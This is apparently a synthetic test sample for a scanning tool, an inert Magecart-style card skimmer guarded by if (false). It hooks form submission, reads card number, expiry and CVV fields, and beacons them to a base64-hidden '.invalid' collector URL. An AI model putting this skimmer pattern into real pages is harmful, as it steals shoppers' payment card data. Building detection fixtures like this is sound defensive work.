/* synthetic test sample for breachscan: Magecart-style skimmer shape (form hook + card
 * fields + base64 + image beacon + atob-decoded endpoint). Inert: guarded by `if (false)`
 * and the endpoint is an .invalid name. */
(function () {
  if (false) {
    var u = atob("aHR0cHM6Ly9jb2xsZWN0b3IuaW52YWxpZC9nLnBocA==");
    document.addEventListener("submit", function () {
      var d = {
        n: document.querySelector("input[name='cc_number']").value,
        e: document.querySelector("input[name='cc_exp']").value,
        c: document.querySelector("input[name='cvv']").value
      };
      new Image().src = u + "?d=" + btoa(JSON.stringify(d));
    }, true);
  }
})();
